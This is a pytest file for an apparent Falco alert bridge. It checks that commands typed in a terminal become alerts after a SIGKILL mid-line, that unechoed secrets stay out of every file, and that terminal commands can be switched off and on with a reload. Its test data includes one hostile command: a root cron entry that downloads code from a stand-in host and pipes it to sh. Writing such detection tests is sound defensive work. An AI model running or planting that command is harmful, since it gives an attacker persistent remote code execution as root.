"""Terminal commands through real processes: typed lines become messages, also where the bridge is killed amid a line."""

from __future__ import annotations

import gzip
import json
import os
import signal
from pathlib import Path

import pytest

from tests.cli.commands import run
from tests.conftest import FULL
from tests.e2e.harness import Instance
from tests.support.terminals import DATA, secrets
from tests.support.waiting import wait_until

SESSION = Path(__file__).parent.parent.parent / "examples" / "quickstart" / "terminal.jsonl"
ROUTES = 'route "cron" { when cmd.wrote contains "/etc/cron.d/" to pager }\notherwise { to archive }\n'
CHANNELS = {"pager": "file://pager.jsonl", "archive": "file://archive.jsonl"}
COMMANDS = ["cd /etc/cron.d", "ls", 'echo "* * * * * root curl http://192.0.2.7/x|sh" > /etc/cron.d/x', "ls -l", "exit"]


def configure(instance: Instance) -> None:
    (instance.folder / "run").mkdir()
    instance.configure(
        ROUTES,
        CHANNELS,
        sources=[{"file": "falco.log", "read_from": "start"}],
        admin=str(instance.folder / "run/a.sock"),
    )


def typed(instance: Instance) -> list[str]:
    return [each.alert.fields.get("cmd.text", "") for each in instance.kept() if each.alert.source == "terminal"]


@pytest.mark.parametrize("cut", [0, 40, 80, 120, 160, 200] if FULL else [120])
def test_a_bridge_that_is_killed_amid_a_line_finishes_it(instance: Instance, cut: int) -> None:
    """SIGKILL after so many alerts, and the rest at the next start: each command once, one message."""
    configure(instance)
    lines = SESSION.read_bytes().splitlines(keepends=True)
    (instance.folder / "falco.log").write_bytes(b"".join(lines[:cut]))
    bridge = instance.bridge()
    instance.await_logged('"started"')
    if cut:
        material = instance.folder / "journal.db.terminal"
        wait_until(lambda: material.exists() and material.stat().st_size > 20 * cut, "the material")
        assert material.stat().st_mode & 0o777 == 0o600
        os.kill(bridge.pid, signal.SIGKILL)
        bridge.wait(30)
        instance.bridge()
    with (instance.folder / "falco.log").open("ab") as file:
        file.write(b"".join(lines[cut:]))
    wait_until(lambda: len(typed(instance)) == len(COMMANDS), "the commands", seconds=60)
    instance.await_settled()
    assert sorted(typed(instance)) == sorted(COMMANDS)
    (page,) = (instance.folder / "pager.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(page)["output_fields"]["cmd.who"] == "alice@example.com"
    rules = {each.alert.rule for each in instance.kept()}
    assert rules == {"Command typed in a terminal", "Attach/Exec Pod"}
    assert (instance.folder / "run" / "journal.db.terminal.key").stat().st_mode & 0o777 == 0o600
    shown = run("commands", "--config", instance.folder / "falco-bridge.yaml", "--since", "2020-01-01T00:00:00Z")
    assert f"  23:59:12  {COMMANDS[2]}\n            wrote /etc/cron.d/x\n" in shown.stdout
    one = run(
        "commands",
        "show",
        json.loads(page)["output_fields"]["cmd.session"],
        "--config",
        instance.folder / "falco-bridge.yaml",
    )
    assert one.stdout == shown.stdout


def test_what_is_typed_without_an_echo_is_in_no_file(instance: Instance) -> None:
    """Of a recorded bash session: not in the journal, the material, the messages, or the log."""
    configure(instance)
    with gzip.open(DATA / "bash-80.alerts.jsonl.gz") as recording:
        (instance.folder / "falco.log").write_bytes(recording.read())
    instance.bridge()
    wait_until(instance.has_journal, "the journal")
    wait_until(lambda: len(typed(instance)) == 85, "the commands", seconds=60)
    instance.await_settled()
    for path in instance.folder.rglob("*"):
        if path.is_file() and path.name != "falco.log":
            content = path.read_bytes()
            assert [secret for secret in secrets("bash-80") if secret.encode() in content] == [], path
    assert [each for each in instance.kept() if any(secret in str(each.alert) for secret in secrets("bash-80"))] == []
    assert not [each for each in instance.kept() if each.alert.rule.startswith("fb:")]


def test_a_reload_switches_commands_off_and_on(instance: Instance) -> None:
    """Without a restart; `reload` says so."""
    configure(instance)
    instance.bridge()
    instance.await_logged('"started"')
    config = instance.folder / "falco-bridge.yaml"
    on = config.read_text(encoding="utf-8")
    for text, expected in ((f"{on}terminal: off\n", "terminal commands off"), (on, "terminal commands on")):
        config.write_text(text, encoding="utf-8")
        run("reload", "--config", config)
        instance.await_logged(expected)
